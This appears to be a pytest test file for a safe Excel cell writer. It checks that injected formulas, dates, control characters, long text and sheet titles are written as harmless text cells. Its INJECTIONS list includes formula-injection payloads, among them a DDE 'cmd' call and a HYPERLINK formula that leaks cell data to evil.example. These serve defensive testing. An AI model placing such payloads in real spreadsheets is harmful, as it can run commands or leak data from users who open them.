"""The safe cell writer: what any value becomes in a cell, read back with openpyxl."""

from __future__ import annotations

import datetime as dt

import pytest
from openpyxl import load_workbook

from inspect_kit.excel import cells
from inspect_kit.excel.cells import CUT_MARKER, MAX_CELL_CHARS, CellStats, clean_text, kind_for_column, unescape_text
from inspect_kit.excel.sheets import Column, new_workbook, save_workbook, sheet_title, write_about, write_table

INJECTIONS = [
    "=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "#N/A", "#DIV/0!", "=", "==", " =1",
]


def write_and_read(tmp_path, columns, rows, **kwargs):
    workbook = new_workbook()
    stats = CellStats()
    result = write_table(workbook, "Data", columns, rows, stats=stats, **kwargs)
    write_about(workbook, [("Rows", result.rows)], stats=stats)
    path = tmp_path / "out.xlsx"
    save_workbook(workbook, path)
    return load_workbook(path), result, stats


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_payloads_are_text_cells_with_the_same_text(tmp_path, payload):
    book, _, _ = write_and_read(tmp_path, [Column("text", cells.TEXT)], [[payload]])
    cell = book["Data"]["A2"]
    assert cell.data_type == "s"
    assert unescape_text(cell.value) == payload


def test_no_cell_of_any_sheet_is_a_formula(tmp_path):
    book, _, _ = write_and_read(tmp_path, [Column("a"), Column("b", cells.DATE)], [[p, p] for p in INJECTIONS])
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)


def test_types_dates_numbers_and_identifiers(tmp_path):
    columns = [Column("collected_on", cells.DATE), Column("created_at", cells.DATETIME),
               Column("version", cells.NUMBER), Column("case_ref"), Column("score"), Column("big"), Column("blob")]
    rows = [["2008-03-27", "2026-11-25T20:15:08+00:00", 3, "0123", 2.5, 12345678901234567, b"\x00\x01"]]
    book, _, _ = write_and_read(tmp_path, columns, rows)
    sheet = book["Data"]
    assert sheet["A2"].is_date and sheet["A2"].value == dt.datetime(2008, 3, 27)
    assert sheet["B2"].is_date and sheet["B2"].value == dt.datetime(2026, 11, 25, 20, 15, 8)
    assert sheet["C2"].data_type == "n" and sheet["C2"].value == 3
    assert sheet["D2"].data_type == "s" and sheet["D2"].value == "0123"
    assert sheet["E2"].value == 2.5
    assert sheet["F2"].data_type == "s" and sheet["F2"].value == "12345678901234567"
    assert sheet["G2"].data_type == "s" and "binary" in sheet["G2"].value


def test_a_date_column_keeps_text_that_is_not_a_date(tmp_path):
    book, _, _ = write_and_read(tmp_path, [Column("event_date", cells.DATE)], [["about March 2008"], ["2008-02-30"]])
    assert book["Data"]["A2"].value == "about March 2008"
    assert book["Data"]["A3"].value == "2008-02-30" and book["Data"]["A3"].data_type == "s"


def test_control_characters_stripped_and_counted_unicode_kept(tmp_path):
    book, _, stats = write_and_read(tmp_path, [Column("t")], [["bell\x07 and nul\x00 gone"], ["Zoë 😀 ünïcode"]])
    assert book["Data"]["A2"].value == "bell and nul gone"
    assert book["Data"]["A3"].value == "Zoë 😀 ünïcode"
    assert stats.stripped_cells == 1


def test_long_text_is_cut_with_a_marker_and_counted(tmp_path):
    long_text = "x" * (MAX_CELL_CHARS + 10)
    book, _, stats = write_and_read(tmp_path, [Column("t")], [[long_text], ["short"]])
    value = book["Data"]["A2"].value
    assert len(value) == MAX_CELL_CHARS and value.endswith(CUT_MARKER)
    assert stats.cut_cells == 1
    exactly = "y" * MAX_CELL_CHARS
    assert clean_text(exactly) == exactly


def test_header_frozen_autofilter_widths_and_about_first(tmp_path):
    book, result, _ = write_and_read(tmp_path, [Column("public_id"), Column("evidence_text")],
                                     [["EF-POL-02-0001", "w" * 300]] * 3)
    sheet = book["Data"]
    assert book.sheetnames[0] == "About this export"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B4"
    assert sheet.column_dimensions["B"].width == 60
    assert sheet.column_dimensions["A"].width >= len("EF-POL-02-0001")
    assert result.rows == 3


def test_row_cap_is_reported(tmp_path):
    _, result, _ = write_and_read(tmp_path, [Column("n")], ([i] for i in range(500)), max_rows=250)
    assert result.rows == 250 and result.capped


def test_carriage_return_and_literal_escapes_survive(tmp_path):
    text = "line one\r\nline two\rthree _x000D_ literal"
    book, _, _ = write_and_read(tmp_path, [Column("t")], [[text]])
    assert unescape_text(book["Data"]["A2"].value) == text


@pytest.mark.parametrize("name, kind", [
    ("collected_on", cells.DATE), ("raised_at", cells.DATE), ("event_date", cells.DATE), ("draft_due", cells.DATE),
    ("evidence_text", cells.AUTO), ("reason", cells.AUTO), ("format", cells.AUTO), ("case_ref", cells.AUTO),
])
def test_date_columns_are_known_by_name(name, kind):
    assert kind_for_column(name) == kind


def test_sheet_titles_are_valid_and_unique():
    assert sheet_title("a/b:c*?[d]") == "a_b_c___d_"
    assert len(sheet_title("x" * 50)) == 31
    assert sheet_title("Findings", ["findings"]) == "Findings (2)"


def test_non_xml_characters_are_stripped_so_the_sheet_stays_valid(tmp_path):
    """U+FFFE and U+FFFF are not XML characters: written as they are, Excel finds the sheet corrupt."""
    import zipfile
    from xml.dom import minidom

    book, _, stats = write_and_read(tmp_path, [Column("t")], [["before\uffffafter\ufffe"]])
    assert book["Data"]["A2"].value == "beforeafter"
    assert stats.stripped_cells == 1
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                minidom.parseString(archive.read(name))  # raises on a character XML does not allow


def test_headings_and_sheet_titles_are_cleaned_too(tmp_path):
    """Headings are column names a lead's SQL chooses: "=..." stays text, control characters go."""
    book, _, _ = write_and_read(tmp_path, [Column("=HYPERLINK(\"http://x\")"), Column("bell\x07name")], [[1, 2]])
    sheet = book["Data"]
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "=HYPERLINK(\"http://x\")"
    assert sheet["B1"].value == "bellname"
    assert sheet_title("tab\x01le") == "table"


def test_dates_excel_cannot_hold_stay_text(tmp_path):
    """Before 1900 Excel has no dates: openpyxl wrote a negative serial (#####) or a bare time."""
    rows = [["0208-03-27"], ["1899-12-31T10:00:00"], [dt.date(1899, 12, 31)], ["1900-01-01"]]
    book, _, _ = write_and_read(tmp_path, [Column("event_date", cells.DATE)], rows)
    sheet = book["Data"]
    assert [(sheet[f"A{n}"].data_type, sheet[f"A{n}"].value) for n in (2, 3, 4)] == [
        ("s", "0208-03-27"), ("s", "1899-12-31T10:00:00"), ("s", "1899-12-31")]
    assert sheet["A5"].is_date and sheet["A5"].value == dt.datetime(1900, 1, 1)


def test_the_cut_counts_characters_as_excel_does(tmp_path):
    """Excel counts UTF-16 units: 20,000 emoji are 40,000 characters to Excel, over its limit."""
    emoji = "😀" * 20_000
    book, _, stats = write_and_read(tmp_path, [Column("t")], [[emoji], ["😀" * 16_383]])
    value = book["Data"]["A2"].value
    assert value.endswith(CUT_MARKER) and cells.excel_length(value) <= MAX_CELL_CHARS
    assert set(value[: -len(CUT_MARKER)]) == {"😀"}  # no half of a pair left behind
    assert book["Data"]["A3"].value == "😀" * 16_383  # 32,766 units: kept whole
    assert stats.cut_cells == 1
